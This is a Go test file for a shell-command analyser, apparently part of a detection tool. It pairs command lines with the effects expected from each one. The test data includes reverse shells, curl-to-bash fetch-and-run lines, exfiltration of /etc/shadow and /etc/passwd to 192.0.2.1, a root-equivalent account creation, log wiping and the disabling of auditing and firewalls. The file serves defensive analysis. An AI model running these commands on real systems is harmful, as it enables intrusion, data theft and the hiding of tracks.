package program

import (
	"slices"
	"strings"
	"testing"

	"ttpctl/internal/engine/shell"
)

// TestManuals holds lines whose effects were read off manuals, family by family, before anybody looked at what the analyser makes of them. The order of the
// effects of one command does not count.
func TestManuals(t *testing.T) {
	p, a := shell.NewParser(), table(t).NewAnalyzer()
	var v shell.View
	var l Line
	for _, test := range manualLines() {
		p.Parse(test.line, &v)
		a.Analyze(&v, "", &l)
		if got := show(&l); unordered(got) != unordered(test.want) {
			t.Errorf("effects of %q =\n\t%s, want\n\t%s", test.line, got, test.want)
		}
	}
}

// unordered sorts the effects of each command.
func unordered(s string) string {
	commands := strings.Split(s, " | ")
	for i, c := range commands {
		name, effects, _ := strings.Cut(c, ": ")
		list := strings.Split(effects, ", ")
		slices.Sort(list)
		commands[i] = name + ": " + strings.Join(list, ", ")
	}
	return strings.Join(commands, " | ")
}

func manualLines() []effectTest {
	var all []effectTest
	for _, family := range [][]effectTest{fileLines(), archiveLines(), fetchLines(), networkLines(), systemLines(), shellLines()} {
		all = append(all, family...)
	}
	return all
}

// fileLines: coreutils 9.1, findutils 4.9, sed 4.9, grep 3.8, e2fsprogs 1.47, vim 9.0.
func fileLines() []effectTest {
	return []effectTest{
		{"head -n 5 /etc/passwd", "head: reads /etc/passwd"},
		{"head -5 /etc/passwd", "head: reads /etc/passwd"},
		{"tail -f /var/log/auth.log", "tail: reads /var/log/auth.log"},
		{"tail -n +2 a b", "tail: reads ./a, reads ./b"},
		{"cut -d: -f1 /etc/passwd", "cut: reads /etc/passwd"},
		{"awk -F: '{print $1}' /etc/passwd", "awk: reads /etc/passwd"},
		{"awk -f x.awk data", "awk: runs ./x.awk, reads ./data"},
		{"sort -u -o out in", "sort: reads ./in, writes ./out create"},
		{"diff -u file1 file2", "diff: reads ./file1, reads ./file2"},
		{"comm -23 <(sort a) <(sort b)", "sort: reads ./a | sort: reads ./b"},
		{"cp <(cat a) /tmp/b", "cp: writes /tmp/b create | cat: reads ./a"},
		{"rename 's/a/b/' *.txt", ""},
		{"uniq -c in out", "uniq: reads ./in, writes ./out create"},
		{"wc -l < /etc/passwd", "wc: reads /etc/passwd"},
		{"grep -v nologin /etc/passwd", "grep: reads /etc/passwd"},
		{"grep -e root -e admin /etc/shadow", "grep: reads /etc/shadow"},
		{"grep -rni password /var/www", "grep: searches /var/www"},
		{"grep -f words /etc/services", "grep: reads ./words, reads /etc/services"},
		{"egrep 'a|b' f", "egrep: reads ./f"},
		{"sed -n 1,5p /etc/group", "sed: reads /etc/group"},
		{"sed -i.bak -e s/a/b/ -e s/c/d/ /etc/hosts", "sed: reads /etc/hosts, writes /etc/hosts edit"},
		{"sed --in-place '/x/d' ~/.bashrc", "sed: reads ~/.bashrc, writes ~/.bashrc edit"},
		{"tac /etc/shadow", "tac: reads /etc/shadow"},
		{"xxd /etc/shadow", "xxd: reads /etc/shadow"},
		{"od -An -tx1 /bin/ls", "od: reads /bin/ls"},
		{"strings -n 8 /bin/ls", "strings: reads /bin/ls"},
		{"md5sum /bin/ls /bin/cat", "md5sum: reads /bin/ls, reads /bin/cat"},
		{"diff /etc/passwd /tmp/p", "diff: reads /etc/passwd, reads /tmp/p"},
		{"base64 -d /tmp/a > /tmp/b", "base64: reads /tmp/a, writes /tmp/b create"},
		{"less /etc/ssh/sshd_config", "less: reads /etc/ssh/sshd_config"},
		{"cp -r /etc/ssh /tmp", "cp: reads /etc/ssh, writes /tmp/ssh create"},
		{"cp /bin/busybox .", "cp: reads /bin/busybox, writes ./busybox create"},
		{"cp -f a /usr/bin/b", "cp: reads ./a, writes /usr/bin/b create"},
		{"cp -t /opt a b", "cp: reads ./a, reads ./b, writes /opt/a create, writes /opt/b create"},
		{"mv /usr/bin/wget /usr/bin/good", "mv: writes /usr/bin/good create, removes /usr/bin/wget"},
		{"install -m 4755 sh /usr/local/bin/sh2", "install: reads ./sh, writes /usr/local/bin/sh2 create, mode /usr/local/bin/sh2 executable+setid"},
		{"ln -s /tmp/a /etc/b", "ln: writes /etc/b link"},
		{"ln /etc/shadow /tmp/s", "ln: writes /tmp/s link"},
		{"rm -rf /var/log", "rm: removes /var/log"},
		{"rm -f -- -x", "rm: removes ./-x"},
		{"rmdir /tmp/d", "rmdir: removes /tmp/d"},
		{"unlink /tmp/x", "unlink: removes /tmp/x"},
		{"shred -n 3 -zu /var/log/secure", "shred: removes /var/log/secure"},
		{"touch /tmp/.lock", "touch: writes /tmp/.lock create"},
		{"truncate -s 0 /var/log/wtmp", "truncate: writes /var/log/wtmp empty"},
		{"> /var/log/lastlog", ": writes /var/log/lastlog empty"},
		{"dd if=/bin/ls bs=52 count=1", "dd: reads /bin/ls"},
		{"dd bs=1 count=52 if=/proc/self/exe of=/tmp/o", "dd: reads /proc/self/exe, writes /tmp/o create"},
		{"chmod 777 a b", "chmod: mode ./a executable+world_writable, mode ./b executable+world_writable"},
		{"chmod u+s /tmp/sh", "chmod: mode /tmp/sh setid"},
		{"chmod 600 ~/.ssh/id_rsa", "chmod: mode ~/.ssh/id_rsa other"},
		{"chmod -x /usr/bin/wget", "chmod: mode /usr/bin/wget other"},
		{"chmod 0755 /tmp/a", "chmod: mode /tmp/a executable"},
		{"chattr +i /etc/crontab", "chattr: mode /etc/crontab immutable"},
		{"chattr -R -ia ~/.ssh", "chattr: mode ~/.ssh mutable"},
		{"find / -perm -4000 -type f 2>/dev/null", "find: searches / for=-4000"},
		{"find / -name '*.pem' -o -name 'id_rsa'", "find: searches / for=*.pem&id_rsa"},
		{"find . -iname '*pass*' -maxdepth 3", "find: searches . for=*pass*"},
		{"find /var/log -type f -delete", "find: searches /var/log, removes /var/log/**"},
		{"locate id_rsa", "locate: searches / for=id_rsa"},
		{"vim -R /etc/passwd", "vim: reads /etc/passwd"},
		{"view /etc/passwd", "view: reads /etc/passwd"},
		{"nano -w /etc/crontab", "nano: writes /etc/crontab edit"},
		{"tee /etc/motd < x", "tee: reads ./x, writes /etc/motd create"},
		{"split -b 1M big", "split: reads ./big"},
		{"mkdir -p /tmp/.x; cd /tmp/.x; touch a", "touch: writes /tmp/.x/a create"},
		{"stat /etc/shadow; ls -la /root; pwd; id; df -h", ""},
	}
}

// archiveLines: tar 1.34, zip 3.0, gzip 1.12, 7zip 16.02, gnupg 2.2, openssl 3.0.
func archiveLines() []effectTest {
	return []effectTest{
		{"tar -czvf /tmp/home.tar.gz /home/bob", "tar: reads ~, archives /tmp/home.tar.gz, writes /tmp/home.tar.gz create"},
		{"tar -C /etc -cf /tmp/e.tar shadow", "tar: reads /etc/shadow, archives /tmp/e.tar, writes /tmp/e.tar create"},
		{"tar cf - /etc | nc 192.0.2.1 9", "tar: reads /etc, archives - | nc: connects 192.0.2.1:9, sends 192.0.2.1:9 from=- port=9"},
		{"tar tzf a.tgz", "tar: reads ./a.tgz"},
		{"tar -xf /tmp/a.tar", "tar: reads /tmp/a.tar, writes . create"},
		{"zip -r -q /tmp/d.zip /var/www", "zip: reads /var/www, archives /tmp/d.zip, writes /tmp/d.zip create"},
		{"zip -P secret out.zip a b", "zip: reads ./a, reads ./b, archives ./out.zip, writes ./out.zip create"},
		{"unzip -o a.zip -d /opt/x", "unzip: reads ./a.zip, writes /opt/x create"},
		{"gzip -9 /tmp/dump.sql", "gzip: reads /tmp/dump.sql, archives /tmp/dump.sql.gz, writes /tmp/dump.sql.gz create, removes /tmp/dump.sql"},
		{"7z a -psecret out.7z /etc", "7z: reads /etc, archives ./out.7z, writes ./out.7z create"},
		{"gpg -c f", "gpg: reads ./f, archives ./f.gpg, writes ./f.gpg create"},
		{"zipinfo a.zip", "zipinfo: reads ./a.zip"},
		{"zcat /var/log/auth.log.2.gz", "zcat: reads /var/log/auth.log.2.gz"},
		{"openssl enc -aes-256-cbc -in /etc/shadow -out /tmp/s.enc -k x", "openssl: reads /etc/shadow, writes /tmp/s.enc create"},
		{"openssl genrsa -out /tmp/k 2048", "openssl: writes /tmp/k create"},
		{"openssl req -new -x509 -key k -out c.pem", "openssl: reads ./k, writes ./c.pem create"},
		{"uudecode -o /tmp/x y.uu", "uudecode: reads ./y.uu, writes /tmp/x create"},
	}
}

// fetchLines: wget 1.21, curl 7.88, BusyBox 1.35, tftp-hpa 5.2, openssh 9.2, rsync 3.2, git 2.39, aria2 1.36, axel 2.17, lftp 4.9.
func fetchLines() []effectTest {
	return []effectTest{
		{"wget http://192.0.2.1/a.sh", "wget: fetches http://192.0.2.1/a.sh to=./a.sh, writes ./a.sh create, connects 192.0.2.1:80"},
		{"wget https://h.test/", "wget: fetches https://h.test/ to=./index.html, writes ./index.html create, connects h.test:443"},
		{"wget -P /tmp http://192.0.2.1/a", "wget: fetches http://192.0.2.1/a to=/tmp/a, writes /tmp/a create, connects 192.0.2.1:80"},
		{"wget -qc --tries=3 -T 5 ftp://192.0.2.1/b -O b", "wget: fetches ftp://192.0.2.1/b to=./b, writes ./b create, connects 192.0.2.1:21"},
		{"wget --spider http://192.0.2.1/", "wget: connects 192.0.2.1:80"},
		{"wget -i urls", "wget: reads ./urls"},
		{"wget --post-file=/etc/passwd -O /dev/null http://192.0.2.1/", "wget: reads /etc/passwd, sends http://192.0.2.1/ from=/etc/passwd, fetches http://192.0.2.1/, connects 192.0.2.1:80"},
		{"wget -p http://192.0.2.1/x", "wget: fetches http://192.0.2.1/x, connects 192.0.2.1:80"},
		{"busybox wget -O- http://192.0.2.1/i.sh", "wget: fetches http://192.0.2.1/i.sh to=-, connects 192.0.2.1:80"},
		{"curl -O http://192.0.2.1/d/x", "curl: fetches http://192.0.2.1/d/x to=./x, writes ./x create, connects 192.0.2.1:80"},
		{"curl -fsSL http://192.0.2.1/i.sh | bash", "curl: fetches http://192.0.2.1/i.sh to=-, connects 192.0.2.1:80 | bash: runs -"},
		{"curl --output /tmp/a --url http://192.0.2.1/a", "curl: fetches http://192.0.2.1/a to=/tmp/a, writes /tmp/a create, connects 192.0.2.1:80"},
		{"curl -X POST -H 'A: b' -d @/etc/passwd http://192.0.2.1/", "curl: reads /etc/passwd, sends http://192.0.2.1/ from=/etc/passwd, connects 192.0.2.1:80"},
		{"curl -T /etc/shadow ftp://u:p@192.0.2.1/", "curl: reads /etc/shadow, sends ftp://192.0.2.1/ from=/etc/shadow, connects 192.0.2.1:21"},
		{"curl -I https://h.test", "curl: connects h.test:443"},
		{"curl http://192.0.2.1/a > /tmp/a", "curl: fetches http://192.0.2.1/a to=/tmp/a, writes /tmp/a create, connects 192.0.2.1:80"},
		{"curl -s ifconfig.me", "curl: fetches ifconfig.me to=- myip, connects ifconfig.me:80 myip"},
		{"curl http://169.254.169.254/latest/meta-data/", "curl: fetches http://169.254.169.254/latest/meta-data/ to=- metadata, connects 169.254.169.254:80 metadata"},
		{"curl -d x=1 http://localhost:8080/", "curl: sends http://localhost:8080/ loopback port=8080, connects localhost:8080 loopback"},
		{"tftp -g -l x -r y 192.0.2.1", "tftp: fetches 192.0.2.1:y to=./x, writes ./x create, connects 192.0.2.1:69"},
		{"tftp -g -r y 192.0.2.1", "tftp: fetches 192.0.2.1:y to=./y, writes ./y create, connects 192.0.2.1:69"},
		{"tftp 192.0.2.1 -c get y", "tftp: fetches 192.0.2.1:y to=./y, writes ./y create, connects 192.0.2.1:69"},
		{"ftpget -u anonymous -p x -P 21 192.0.2.1 l r", "ftpget: fetches 192.0.2.1:r to=./l, writes ./l create, connects 192.0.2.1:21"},
		{"ftpput 192.0.2.1 r /etc/passwd", "ftpput: reads /etc/passwd, sends 192.0.2.1:r from=/etc/passwd, connects 192.0.2.1:21"},
		{"scp /etc/shadow bob@192.0.2.1:", "scp: reads /etc/shadow, sends 192.0.2.1: from=/etc/shadow, connects 192.0.2.1:22"},
		{"rsync -avz /home/ bob@192.0.2.1:/b", "rsync: reads /home, sends 192.0.2.1:/b from=/home port=22, connects 192.0.2.1:22"},
		{"rsync -a 192.0.2.1::mod/f /tmp/", "rsync: fetches 192.0.2.1::mod/f to=/tmp/f, writes /tmp/f create, connects 192.0.2.1:873"},
		{"rsync -a /a/ /b", "rsync: reads /a, writes /b create"},
		{"sftp bob@192.0.2.1:/etc/passwd /tmp/p", "sftp: fetches 192.0.2.1:/etc/passwd to=/tmp/p, writes /tmp/p create, connects 192.0.2.1:22"},
		{"git clone https://github.com/a/b", "git: fetches https://github.com/a/b to=./b, writes ./b create, connects github.com:443"},
		{"git clone --depth 1 git@github.com:a/b.git /opt/b", "git: fetches github.com:a/b.git to=/opt/b, writes /opt/b create, connects github.com:22"},
		{"aria2c -d /tmp -o x http://192.0.2.1/a", "aria2c: fetches http://192.0.2.1/a to=/tmp/x, writes /tmp/x create, connects 192.0.2.1:80"},
		{"axel -o /tmp/x http://192.0.2.1/a", "axel: fetches http://192.0.2.1/a to=/tmp/x, writes /tmp/x create, connects 192.0.2.1:80"},
		{"lwp-download http://192.0.2.1/a /tmp/b", "lwp-download: fetches http://192.0.2.1/a to=/tmp/b, writes /tmp/b create, connects 192.0.2.1:80"},
		{"rclone copy /data remote:b", "rclone: reads /data, sends remote:b from=/data"},
		{"rclone sync remote:b /tmp/b", "rclone: fetches remote:b to=/tmp/b, writes /tmp/b create"},
		{"wget $URL", "wget: fetches $URL unknown, connects $URL unknown"},
		{"wget $HOST/x.sh", "wget: fetches $HOST/x.sh to=./x.sh unknown, writes ./x.sh create, connects $HOST:80 unknown"},
		{"lynx -source http://192.0.2.1/a", "lynx: fetches http://192.0.2.1/a to=-, connects 192.0.2.1:80"},
	}
}

// networkLines: netcat-openbsd 1.219, netcat-traditional 1.10, socat 1.7, openssh 9.2, clients of databases.
func networkLines() []effectTest {
	return []effectTest{
		{"nc -e /bin/sh 192.0.2.1 4444", "nc: runs /bin/sh, connects 192.0.2.1:4444"},
		{"nc -zv 192.0.2.1 22", "nc: connects 192.0.2.1:22"},
		{"nc -l 4444 > f", "nc: listens 4444 port=4444, writes ./f create"},
		{"ncat --exec /bin/bash 192.0.2.1 1", "ncat: runs /bin/bash, connects 192.0.2.1:1"},
		{"telnet 192.0.2.1 23", "telnet: connects 192.0.2.1:23"},
		{"telnet 192.0.2.1", "telnet: connects 192.0.2.1:23"},
		{"ssh -i /tmp/k -p 2222 bob@192.0.2.1", "ssh: reads /tmp/k, connects 192.0.2.1:2222"},
		{"ssh -o StrictHostKeyChecking=no -fNR 8080:localhost:80 bob@192.0.2.1", "ssh: listens 8080 port=8080, connects 192.0.2.1:22"},
		{"ssh -D 1080 bob@192.0.2.1", "ssh: listens 1080 port=1080, connects 192.0.2.1:22"},
		{"socat TCP:192.0.2.1:443 EXEC:/bin/sh", "socat: connects 192.0.2.1:443, runs /bin/sh"},
		{"socat TCP-LISTEN:8080,fork TCP:192.0.2.1:80", "socat: listens 8080 port=8080, connects 192.0.2.1:80"},
		{"python3 -m http.server 8000", "python: listens 8000 port=8000"},
		{"python -m SimpleHTTPServer", "python: listens 8000 port=8000"},
		{"php -S 0.0.0.0:8888", "php: listens 8888 port=8888"},
		{"mysql -h 192.0.2.1 -u root -psecret -e 'show databases'", "mysql: connects 192.0.2.1:3306"},
		{"mysqldump -u root db > /tmp/d.sql", "mysqldump: writes /tmp/d.sql create"},
		{"psql -h 192.0.2.1 -U postgres -c 'select 1'", "psql: connects 192.0.2.1:5432"},
		{"redis-cli -h 192.0.2.1 -p 6380 config set dir /root/.ssh", "redis-cli: connects 192.0.2.1:6380"},
		{"sqlite3 /var/lib/x.db .dump", "sqlite3: reads /var/lib/x.db"},
		{"exec 3<>/dev/tcp/192.0.2.1/80", "exec: connects 192.0.2.1:80"},
		{"cat /etc/passwd > /dev/tcp/192.0.2.1/80", "cat: reads /etc/passwd, sends 192.0.2.1:80 from=/etc/passwd port=80, connects 192.0.2.1:80"},
		{"psql postgresql://u:p@192.0.2.1/db", "psql: connects 192.0.2.1:5432"},
		{"sqlcmd -S 192.0.2.1,1434 -U sa -P x", "sqlcmd: connects 192.0.2.1:1434"},
		{"sqlcmd -S tcp:192.0.2.1 -Q 'select 1' -o /tmp/o", "sqlcmd: writes /tmp/o create, connects 192.0.2.1:1433"},
		{"tsql -H 192.0.2.1 -p 1433", "tsql: connects 192.0.2.1:1433"},
		{"openssl s_client -connect 192.0.2.1:443", "openssl: connects 192.0.2.1:443"},
		{"nmap -sS -p 1-1000 -oN /tmp/n 192.0.2.0/24", "nmap: writes /tmp/n create"},
		{"tcpdump -i eth0 -w /tmp/c.pcap port 80", "tcpdump: writes /tmp/c.pcap create"},
		{"ping -c 1 192.0.2.1; dig h.test; ifconfig -a", ""},
	}
}

// systemLines: procps 4.0, psmisc 23.6, systemd 252, apt 2.6, passwd 4.13, adduser 3.134, kmod 30, cron 3.0, at 3.2.
func systemLines() []effectTest {
	return []effectTest{
		{"kill -9 1234", "kill: kills *"},
		{"kill -9 $(pidof xmrig)", "kill: kills xmrig"},
		{"pkill -u bob", "pkill: kills *"},
		{"killall -9 xmrig kinsing", "killall: kills xmrig, kills kinsing"},
		{"netstat -anp | grep :3333 | awk '{print $7}' | cut -d/ -f1 | xargs kill -9", "kill: kills *"},
		{"setcap cap_setuid+ep /tmp/x", ""},
		{"systemctl enable --now x.service", "systemctl: service x enable, service x start"},
		{"systemctl daemon-reload", ""},
		{"systemctl restart sshd", "systemctl: service sshd restart"},
		{"service iptables stop", "service: service iptables stop"},
		{"/etc/init.d/cron restart", "cron: runs /etc/init.d/cron, service cron restart"},
		{"chkconfig iptables off", "chkconfig: service iptables disable"},
		{"update-rc.d x defaults", "update-rc.d: service x enable"},
		{"rc-update add x default", "rc-update: service x enable"},
		{"apt-get install -y curl nmap=7.0", "apt-get: package curl install, package nmap install"},
		{"apt-get -qq -o Dpkg::Use-Pty=0 update", ""},
		{"apt remove --purge clamav", "apt: package clamav remove"},
		{"yum -y install gcc", "yum: package gcc install"},
		{"yum erase -y audit", "yum: package audit remove"},
		{"apk add --no-cache wget", "apk: package wget install"},
		{"opkg install tcpdump", "opkg: package tcpdump install"},
		{"dpkg -i ./x.deb", "dpkg: reads ./x.deb, package ./x.deb install"},
		{"dpkg -l", ""},
		{"rpm -ivh /tmp/x.rpm", "rpm: reads /tmp/x.rpm, package /tmp/x.rpm install"},
		{"rpm -qa", ""},
		{"pip3 install --user requests==2.0", "pip: package requests install"},
		{"pip install -r reqs.txt", "pip: reads ./reqs.txt"},
		{"npm i -g pm2", "npm: package pm2 install"},
		{"gem install bundler -v 2.0", "gem: package bundler install"},
		{"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor", "useradd: account toor add group=0"},
		{"adduser --disabled-password --gecos '' bob", "adduser: account bob add"},
		{"adduser bob sudo", "adduser: account bob modify group=sudo"},
		{"usermod -aG sudo,docker bob", "usermod: account bob modify group=sudo, account bob modify group=docker"},
		{"usermod -L bob", "usermod: account bob lock"},
		{"userdel -r bob", "userdel: account bob delete"},
		{"passwd -l root", "passwd: account root lock"},
		{"passwd bob", "passwd: account bob password"},
		{"gpasswd -a bob docker", "gpasswd: account bob modify group=docker"},
		{"echo -e 'a:x\\nb:c' | chpasswd", "chpasswd: account a password, account b password"},
		{"chsh -s /bin/sh bob", "chsh: account bob modify"},
		{"modprobe -r floppy", "modprobe: module floppy unload"},
		{"modprobe ip_tables", "modprobe: module ip_tables load"},
		{"rmmod rk", "rmmod: module rk unload"},
		{"lsmod", "lsmod: module * list"},
		{"crontab -l", ""},
		{"crontab /tmp/c", "crontab: reads /tmp/c, schedules -"},
		{"echo '/tmp/x' | at now", "at: schedules /tmp/x | x: runs /tmp/x"},
		{"at -f /tmp/j now + 1 minute", "at: reads /tmp/j, schedules -"},
		{"systemd-run --on-calendar=daily /tmp/x", "systemd-run: schedules /tmp/x | x: runs /tmp/x"},
		{"iptables -A INPUT -s 192.0.2.1 -j DROP; iptables -F", ""},
		{"iptables-save > /etc/iptables.rules", "iptables-save: writes /etc/iptables.rules create"},
		{"sysctl -p /etc/sysctl.conf", "sysctl: reads /etc/sysctl.conf"},
		{"auditctl -e 0; setenforce 0; ufw disable", ""},
		{"docker run --rm -v /:/mnt alpine cat /mnt/etc/shadow", ""},
		{"kubectl -n x exec p -- cat /etc/passwd", ""},
		{"dmidecode -t system; lspci; lscpu; uname -a; free -m", ""},
	}
}

// shellLines: bash 5.2, sudo 1.9, env of coreutils 9.1.
func shellLines() []effectTest {
	return []effectTest{
		{"bash /tmp/x.sh", "bash: runs /tmp/x.sh"},
		{"sh -x ./i.sh a b", "sh: runs ./i.sh"},
		{". ./env.sh", ".: runs ./env.sh"},
		{"source ~/.bashrc", "source: runs ~/.bashrc"},
		{"sudo -u root bash -c 'id > /tmp/o'", "id: writes /tmp/o create"},
		{"nohup ./miner -o pool:3333 &", "miner: runs ./miner"},
		{"perl /tmp/a.pl 192.0.2.1", "perl: runs /tmp/a.pl"},
		{"perl -lane 'print $F[0]' f", "perl: reads ./f"},
		{"perl -0777 -ne 'print' f", "perl: reads ./f"},
		{"ruby -rsocket -e 'puts 1'", ""},
		{"exec > >(tee -a /tmp/x) 2>&1", "tee: writes /tmp/x append"},
		{"sh < <(curl http://192.0.2.1/)", "sh: runs - | curl: fetches http://192.0.2.1/ to=-, connects 192.0.2.1:80"},
		{"screen -dmS x bash -c 'nc -l 1'", "nc: listens 1 port=1"},
		{"perl -pi -e s/a/b/ /etc/hosts", "perl: reads /etc/hosts, writes /etc/hosts edit"},
		{"python -c 'import os' x", ""},
		{"ruby x.rb", "ruby: runs ./x.rb"},
		{"php -f /tmp/a.php", "php: runs /tmp/a.php"},
		{"php -r 'phpinfo();'", ""},
		{"node /opt/x.js", "node: runs /opt/x.js"},
		{"java -jar /tmp/a.jar", "java: runs /tmp/a.jar"},
		{"lua /tmp/a.lua", "lua: runs /tmp/a.lua"},
		{"expect -f /tmp/a.exp", "expect: runs /tmp/a.exp"},
		{"export PATH=/tmp:$PATH", "export: sets PATH =/tmp:$PATH"},
		{"unset HISTFILE", "unset: sets HISTFILE unset"},
		{"HISTSIZE=0", ": sets HISTSIZE =0"},
		{"env -u HISTFILE LD_PRELOAD=/tmp/x ls", "env: sets HISTFILE unset, sets LD_PRELOAD =/tmp/x"},
		{"for i in a b; do rm $i; done", "rm: removes $i"},
		{"cat <<< x > /tmp/y", "cat: writes /tmp/y create"},
		{"bash -c \"$(curl -fsSL http://192.0.2.1/a)\"", "bash: runs - | curl: fetches http://192.0.2.1/a to=-, connects 192.0.2.1:80"},
		{"find /tmp -name '*.sh' -exec chmod +x {} \\;", "find: searches /tmp for=*.sh | chmod: mode /tmp/**/*.sh executable"},
		{"cd /tmp || cd /var; ./a", "a: runs /tmp/a"},
		{"strace -o /tmp/t -f ls", "strace: writes /tmp/t create"},
		{"gcc -o /tmp/a a.c -lm", "gcc: reads ./a.c, writes /tmp/a create"},
		{"gcc a.c && ./a.out", "gcc: reads ./a.c, writes ./a.out create | a.out: runs ./a.out"},
		{"cd /tmp; cc -c x.c y.c", "gcc: reads /tmp/x.c, reads /tmp/y.c, writes /tmp/x.o create, writes /tmp/y.o create"},
		{"gcc -fsyntax-only a.c", "gcc: reads ./a.c"},
		{"make -C /tmp/src install", ""},
		{"echo 1 > /proc/sys/net/ipv4/ip_forward", "echo: writes /proc/sys/net/ipv4/ip_forward create"},
		{"enable; system; shell; sh; /bin/busybox ABCD", ""},
	}
}
